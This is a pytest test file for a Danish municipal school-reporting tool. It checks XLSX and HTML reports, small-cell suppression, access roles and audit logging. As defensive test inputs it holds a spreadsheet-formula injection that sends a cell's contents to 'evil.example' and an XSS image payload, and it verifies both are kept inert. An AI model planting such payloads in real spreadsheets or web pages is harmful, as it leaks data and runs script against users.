"""Reports: the status report and the dialogue sheet as XLSX and HTML, and the command."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser

import markupsafe
import pytest
from openpyxl import load_workbook

import reports
from core import database, safe
from core.errors import KvalitetsdialogError
from core.viewer import Viewer
from dialogue import add_note
from reports.__main__ import main

ADMIN = Viewer.parse("administration")
MARK = "Fortroligt - folkeskolelovens § 55 b"
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


@pytest.fixture
def rdb(db):
    """Four schools of Eksempelby with 2021/22 national tests and well-being (hand-made numbers).

    Well-being, general (value, respondents): Nordskolen 3.9 (100), Sydskolen 3.5 (300),
    Lilleskolen 4.2 (3: fewer than 5, withheld but still in the municipality's pool), Småskolen 4.0
    (20: withheld too, the smallest other school, as the municipality minus the other three would give
    Lilleskolen's 3 back).
    National tests: Nordskolen, grade 4 reading, 20 tested, levels 1..6 = 1, 2, 3, 6, 5, 3.
    """
    with database.write(db) as con:
        con.execute(
            "INSERT INTO institutions (institution_id, name, kind, municipality_code) VALUES"
            " ('999001', 'Nordskolen', 'skole', 999), ('999002', 'Sydskolen', 'skole', 999),"
            " ('999003', 'Lilleskolen', 'skole', 999), ('999004', 'Småskolen', 'skole', 999)"
        )
        con.execute(
            "INSERT INTO wellbeing VALUES (1, '999001', 2021, NULL, 'general', 3.9, 100),"
            " (1, '999002', 2021, NULL, 'general', 3.5, 300), (1, '999003', 2021, NULL, 'general', 4.2, 3),"
            " (1, '999004', 2021, NULL, 'general', 4.0, 20)"
        )
        con.execute(
            "INSERT INTO test_aggregates VALUES (1, '999001', 2021, 4, 'dansk_laesning', 'national_test',"
            " 20, 1, 2, 3, 6, 5, 3, NULL)"
        )
        # Goal: general well-being at least 3.8 in every school by 2022/23.
        con.execute(
            "INSERT INTO goal_versions (goal_id, version, title, indicator, scope, direction, target, target_year)"
            " VALUES ('T1', 1, 'Trivsel mindst 3,8', 'wb_general', 'skoler', '>=', 3.8, 2022)"
        )
        con.execute("INSERT OR REPLACE INTO meta VALUES ('demo', 'true')")
    add_note(db, ADMIN, institution_id="999001", school_year=2021, note_kind="assessment", text=INJECTION)
    return db


def status(db, viewer, fmt):
    with database.read(db) as con:
        return reports.status(con, viewer, kommune=999, year=2021, fmt=fmt)


def cell(ws, name: str, column: int):
    """The cell in a given column of the row whose first cell is ``name``."""
    return next(r[column - 1] for r in ws.iter_rows(min_row=5) if r[0].value == name)


def rows(ws) -> dict[str, list]:
    """A sheet's data rows keyed by their first cell (the institution's name)."""
    return {r[0]: list(r[1:]) for r in ws.iter_rows(min_row=5, values_only=True) if r[0]}


def test_status_xlsx_sheets_values_and_marks(rdb):
    wb = load_workbook(io.BytesIO(status(rdb, ADMIN, "xlsx")))
    assert wb.sheetnames == ["Forside", "Mål", "Nationale test", "Trivsel", "Vurderinger", "Definitioner"]
    cover = {r[0]: r[1] for r in wb["Forside"].iter_rows(values_only=True) if r[0]}
    assert cover["Kommune"] == "Eksempelby Kommune"
    assert cover["Skoleår"] == "2021/22"
    assert cover["Data"] == "Syntetiske data"
    assert wb["Forside"]["A1"].value == "Statusrapport 2021/22"
    assert "ikke lovpligtig" in cover["Om rapporten"] and "§ 40 a" in cover["Om rapporten"]

    # 3.9 >= 3.8: met. Sydskolen 3.5 and the municipality 3.623 miss it before the target year
    # with only one year of data (no line to fit): not met, which reads "Ikke på vej" before the target
    # year. Lilleskolen and Småskolen are withheld: no data.
    goals = wb["Mål"]
    by_unit = {r[2].value: r for r in goals.iter_rows(min_row=5)}
    statuses = {unit: r[6] for unit, r in by_unit.items()}
    assert {k: c.value for k, c in statuses.items()} == {
        "Eksempelby Kommune": "Ikke på vej",
        "Lilleskolen": "Ingen data",
        "Nordskolen": "Opfyldt",
        "Sydskolen": "Ikke på vej",
        "Småskolen": "Ingen data",
    }
    assert statuses["Nordskolen"].fill.fgColor.rgb == "00009E73"
    assert by_unit["Nordskolen"][4].value == 3.9 and by_unit["Nordskolen"][4].number_format == "0.0"
    assert by_unit["Eksempelby Kommune"][4].value == pytest.approx(1532.6 / 423)

    wb_rows = rows(wb["Trivsel"])
    # Nordskolen's own value, and the municipality pooled on respondents:
    # (3.9*100 + 3.5*300 + 4.2*3 + 4.0*20) / (100 + 300 + 3 + 20) = 1532.6 / 423 = 3.62317...
    assert wb_rows["Nordskolen"][:2] == [3.9, 100]
    assert wb_rows["Eksempelby Kommune"][0] == pytest.approx(1532.6 / 423)
    assert wb_rows["Eksempelby Kommune"][1] == 423
    # Lilleskolen: 3 respondents, fewer than 5: withheld, and says so (not blank, not zero); Småskolen is
    # withheld so that Lilleskolen cannot be worked out: marked x; neither shows its n.
    assert wb_rows["Lilleskolen"][:2] == ["<5", "–"] and wb_rows["Småskolen"][:2] == ["x", "–"]
    assert cell(wb["Trivsel"], "Nordskolen", 2).number_format == "0.0"  # one decimal shown, full precision kept
    assert wb["Trivsel"].freeze_panes == "A5"

    nt = wb["Nationale test"]
    assert nt["A2"].value == MARK and nt.oddHeader.center.text == MARK
    # Nordskolen: good = levels 4-6 = 6 + 5 + 3 = 14 of 20 tested = 70 %.
    assert rows(nt)["Nordskolen"][0] == pytest.approx(0.70)
    assert cell(nt, "Nordskolen", 2).number_format == "0.0 %"
    assert wb["Trivsel"]["A2"].value is None  # no § 55 b mark where there is no test content

    assessment = wb["Vurderinger"]["C5"]
    assert assessment.value == INJECTION and assessment.data_type == "s"
    assert wb["Definitioner"]["A5"].value == "nt_share_good"


def test_public_gets_no_national_test_sheet(rdb):
    wb = load_workbook(io.BytesIO(status(rdb, Viewer.parse("public"), "xlsx")))
    assert "Nationale test" not in wb.sheetnames and "Trivsel" in wb.sheetnames
    assert all(MARK not in str(c.value) for ws in wb for row in ws.iter_rows() for c in row)
    # The public reads no notes.
    assert list(wb["Vurderinger"].iter_rows(min_row=5, values_only=True)) == []


class _Refs(HTMLParser):
    def __init__(self):
        super().__init__()
        self.refs = []

    def handle_starttag(self, tag, attrs):
        self.refs += [v for k, v in attrs if k in ("src", "href") and v]


def test_status_html_is_self_contained_with_figures(rdb):
    page = status(rdb, ADMIN, "html").decode("utf-8")
    assert page.count("Plotly.newPlot") == 2  # national tests and well-being
    assert page.count("plotly.js v") == 1  # the bundle is inlined once
    parser = _Refs()
    parser.feed(page)
    assert not [r for r in parser.refs if re.match(r"\s*(https?:)?//", r)]
    assert "@page { size: A4" in page and MARK in page
    assert "<h1>Statusrapport 2021/22 – Eksempelby Kommune</h1>" in page and "Kvalitetsrapport" not in page
    assert "3,9" in page and "&lt;5" in page and ">x<" in page
    assert str(markupsafe.escape(INJECTION)) in page and INJECTION not in page  # user text is escaped
    public = status(rdb, Viewer.parse("public"), "html").decode("utf-8")
    assert MARK not in public and "Nationale test" not in public


def test_dialogue_sheet_for_one_institution(rdb):
    add_note(
        rdb,
        ADMIN,
        institution_id="999001",
        school_year=2020,
        note_kind="action",
        text="+Læsebånd hver dag",
        action_owner="Skolelederen",
        action_due="2021-06-30",
    )
    with database.read(rdb) as con:
        data = reports.dialogue(con, Viewer.parse("leader:999001"), "999001", year=2021, fmt="xlsx")
        page = reports.dialogue(con, ADMIN, "999001", year=2021, fmt="html").decode("utf-8")
        with pytest.raises(KvalitetsdialogError, match="ikke din"):
            reports.dialogue(con, Viewer.parse("leader:999002"), "999001", year=2021)
    ws = load_workbook(io.BytesIO(data))["Dialog"]
    texts = [c.value for row in ws.iter_rows() for c in row if c.value is not None]
    assert "Kvalitetsdialog 2021/22: Nordskolen" in texts
    assert INJECTION in texts and "+Læsebånd hver dag" in texts
    carried = next(c for row in ws.iter_rows() for c in row if c.value == "+Læsebånd hver dag")
    assert carried.data_type == "s"
    assert ws.page_setup.orientation == "portrait"
    assert "Åbne aftaler fra tidligere år" in page and "Læsebånd" in page


def test_csv_and_xlsx_text_is_never_a_formula():
    out = io.StringIO()
    csv.writer(out).writerow([safe.csv_text(v) for v in ["=1+1", "-2", "@x", "+4", "Læs", 3.5]])
    assert out.getvalue().strip() == "'=1+1,'-2,'@x,'+4,Læs,3.5"


def test_command_writes_the_file_and_records_the_export(rdb, tmp_path, capsys):
    out = tmp_path / "rapport.xlsx"
    assert main(["status", "--db", str(rdb), "--out", str(out), "--year", "2021/22", "--as", "council"]) == 0
    assert capsys.readouterr().out.startswith(f"Statusrapport skrevet til {out} (")
    # The old name still works and writes the same report.
    assert main(["quality", "--db", str(rdb), "--out", str(tmp_path / "old.xlsx"), "--year", "2021/22"]) == 0
    assert load_workbook(out).sheetnames[0] == "Forside"
    assert load_workbook(tmp_path / "old.xlsx")["Forside"]["A1"].value == "Statusrapport 2021/22"
    with database.read(rdb) as con:
        assert con.execute("SELECT who, action, object FROM audit_log WHERE action = 'export'").fetchall() == [
            ("council", "export", "report:status"),
            ("administration", "export", "report:status"),
        ]
    assert main(["status", "--db", str(rdb), "--out", str(tmp_path / "r.pdf")]) == 1
    assert "Ukendt filformat" in capsys.readouterr().err
    assert (
        main(
            [
                "dialogue",
                "--db",
                str(rdb),
                "--institution",
                "999002",
                "--as",
                "leader:999001",
                "--out",
                str(tmp_path / "d.html"),
            ]
        )
        == 1
    )


MARKUP = '<img src=x onerror="alert(1)"><b>fed</b>'


def test_every_text_a_user_wrote_is_escaped_in_the_html_reports(rdb):
    """Autoescape: a goal title, an institution name, a note and an action owner are text, never markup."""
    with database.write(rdb) as con:
        con.execute("UPDATE goal_versions SET title = ? WHERE goal_id = 'T1'", [MARKUP])
        con.execute("UPDATE institutions SET name = ? WHERE institution_id = '999002'", [MARKUP])
    add_note(rdb, ADMIN, institution_id="999001", school_year=2021, note_kind="assessment", text=MARKUP)
    add_note(
        rdb,
        ADMIN,
        institution_id="999001",
        school_year=2021,
        note_kind="action",
        text=MARKUP,
        action_owner=MARKUP,
        action_due="2022-06-30",
    )
    with database.read(rdb) as con:
        pages = [
            reports.status(con, ADMIN, kommune=999, year=2021, fmt="html").decode("utf-8"),
            reports.dialogue(con, ADMIN, "999001", year=2021, fmt="html").decode("utf-8"),
        ]
    for page in pages:
        assert str(markupsafe.escape(MARKUP)) in page
        assert "<b>fed</b>" not in page and 'onerror="alert' not in page.replace("\\u003c", "<")
